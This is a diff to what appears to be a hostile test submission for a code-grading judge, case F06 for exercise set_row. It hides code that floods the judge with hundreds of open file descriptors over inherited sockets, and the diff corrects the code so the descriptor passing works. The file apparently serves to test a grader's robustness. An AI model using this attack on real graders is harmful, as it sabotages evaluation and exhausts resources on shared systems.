@@ -1,4 +1,4 @@
-"""Sends hundreds of open files along with its answer, for the judge to be full of them (F06).
+"""Sends hundreds of open files to the judge, so that it runs out of descriptors (F06).
 
 Exercise: 01_arrays/set_row
 Outcome: failed | raised | crashed
@@ -18,9 +18,9 @@ def set_row(x, i, row):
             channel = socket.socket(fileno=os.dup(number))
             files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(100)]
             rights = struct.pack(f"{len(files)}i", *files)
-            # The first byte of an answer's header, which the answer then lacks nothing but.
+            # A stream carries descriptors only beside a byte.
             for _ in range(3):
-                channel.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
+                channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
         except OSError:
             continue
     return x
